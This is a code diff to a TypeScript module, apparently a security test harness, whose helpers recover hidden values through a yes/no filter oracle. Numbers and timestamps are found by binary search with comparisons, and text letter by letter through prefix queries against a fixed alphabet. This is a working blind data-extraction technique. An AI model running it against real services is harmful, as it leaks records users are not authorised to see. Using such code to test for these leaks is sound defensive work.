@@ -1,8 +1,17 @@
 /** Whether a row answers to a filter: all that an attacker learns from one question. */
 export type Oracle = (filter: object) => Promise<boolean>;
 
+/** Letters that names and facts of the attack's world are made of. */
+const letters = '化工王案情金丝雀李张';
+
+/** Searches for a value of the same kind as the one that is hidden. */
+export function guess(holds: Oracle, like: string | number): Promise<unknown> {
+  if (typeof like === 'number') return guessNumber(holds);
+  return like.endsWith('Z') ? guessTime(holds) : guessText(holds);
+}
+
 /** Finds a whole number below 2³⁰ with comparisons only; undefined if no comparison ever holds. */
-export async function guessNumber(holds: Oracle, write = String): Promise<number | undefined> {
+async function guessNumber(holds: Oracle, write = String): Promise<number | undefined> {
   const asked = (n: number) => holds({ gte: typed(write(n)) });
   if (!(await asked(0))) return undefined;
   let known = 0;
@@ -13,7 +22,7 @@ export async function guessNumber(holds: Oracle, write = String): Promise<number
 }
 
 /** Finds an instant in the same way, to the second. */
-export async function guessTime(holds: Oracle): Promise<string | undefined> {
+async function guessTime(holds: Oracle): Promise<string | undefined> {
   const first = Date.UTC(2020, 0, 1);
   const write = (seconds: number) => new Date(first + seconds * 1000).toISOString();
   const found = await guessNumber(holds, write);
@@ -21,11 +30,11 @@ export async function guessTime(holds: Oracle): Promise<string | undefined> {
 }
 
 /** Finds a text letter by letter with prefixes; undefined if no first letter fits. */
-export async function guessText(holds: Oracle, letters: string): Promise<string | undefined> {
+async function guessText(holds: Oracle): Promise<string | undefined> {
   let known = '';
   for (;;) {
     let next: string | undefined;
-    for (const letter of new Set(letters)) {
+    for (const letter of letters) {
       if (await holds({ prefix: known + letter })) next = letter;
     }
     if (next === undefined) return known === '' ? undefined : known;
